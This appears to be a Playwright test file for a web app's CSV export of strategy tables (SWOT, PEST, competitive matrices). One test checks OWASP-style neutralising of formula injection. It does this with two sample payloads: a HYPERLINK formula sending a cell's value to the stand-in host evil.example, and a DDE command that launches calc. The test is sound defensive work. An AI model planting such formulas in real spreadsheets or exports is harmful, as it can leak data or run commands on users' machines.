import { readFileSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { parseCsv } from '../../src/export/csv';
import { addItems, createBlankProject, openFresh, waitSaved } from './helpers';

async function downloadCsv(page: Page, name: string | RegExp) {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    // A table's menu toggle names the table too; it is not a download.
    page.getByRole('button', { name }).and(page.locator(':not(.csv-toggle)')).click(),
  ]);
  return { name: download.suggestedFilename(), bytes: readFileSync(await download.path()) };
}

test('every page with a table offers it as CSV that Excel opens with Chinese intact', async ({ browser }) => {
  const context = await browser.newContext({ locale: 'zh-CN' });
  const page = await context.newPage();
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'SWOT 分析', level: 1 })).toBeVisible();
  const swot = await downloadCsv(page, '把SWOT 条目（含权重和评分）下载为 CSV（可用 Excel 打开）');
  expect(swot.name).toBe('迅达速运（案例） - SWOT.csv');
  // UTF-8 with a byte order mark, so that Excel does not read it as the local code page.
  expect([...swot.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = swot.bytes.toString('utf8');
  expect(text).toContain('象限,编号,内容,备注,权重,评分\r\n');
  expect(text).toContain('优势,S1,自有航空与地面网络：300 多个城市之间次日达');

  for (const [link, label] of [
    ['波特五力', /五力驱动因素/],
    ['PEST(EL) 分析', /PEST\(EL\) 因素/],
    ['战略选择', /QSPM 打分/],
    ['定位', /竞争态势矩阵/],
  ] as const) {
    await page.getByRole('navigation').getByRole('link', { name: link, exact: true }).click();
    const file = await downloadCsv(page, label);
    expect(file.bytes.toString('utf8').split('\r\n').length).toBeGreaterThan(3);
  }
  await context.close();
});

test('a model’s curves download as CSV with one row per point', async ({ page }) => {
  await openFresh(page);
  await page.getByRole('link', { name: 'Service vs cost' }).click();
  await page.getByRole('button', { name: /Packaging stock/ }).click();
  const file = await downloadCsv(page, /the curves of Packaging stock/);
  const lines = file.bytes.toString('utf8').trim().split('\r\n');
  expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(lines[0]!.replace(/^\uFEFF/, '')).toBe('Service level (%),Safety stock,Cost,Revenue,Profit');
  expect(lines).toHaveLength(202);
});

test('CSV neutralises formula-like text by default (OWASP), and the menu offers it exactly as typed', async ({
  page,
}) => {
  await createBlankProject(page);
  const payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
  await addItems(page, 'Strengths', [payload, "-2+3+cmd|' /C calc'!A0", 'Plain text']);
  await waitSaved(page);
  const safe = await downloadCsv(
    page,
    'Download the SWOT items with weights and ratings as CSV (opens in Excel)',
  );
  const safeRows = parseCsv(safe.bytes.toString('utf8'));
  expect(safeRows.slice(1).map((r) => r[2])).toEqual([
    `'${payload}`,
    "'-2+3+cmd|' /C calc'!A0",
    'Plain text',
  ]);

  const toggle = page.getByRole('button', {
    name: 'CSV options for the SWOT items with weights and ratings',
  });
  await toggle.click();
  await expect(toggle).toHaveAttribute('aria-expanded', 'true');
  const typed = await downloadCsv(page, /as CSV exactly as typed/);
  const typedRows = parseCsv(typed.bytes.toString('utf8'));
  expect(typedRows.slice(1).map((r) => r[2])).toEqual([payload, "-2+3+cmd|' /C calc'!A0", 'Plain text']);
  // The menu closes after the choice and gives focus back to its button.
  await expect(toggle).toBeFocused();
  await expect(toggle).toHaveAttribute('aria-expanded', 'false');
});
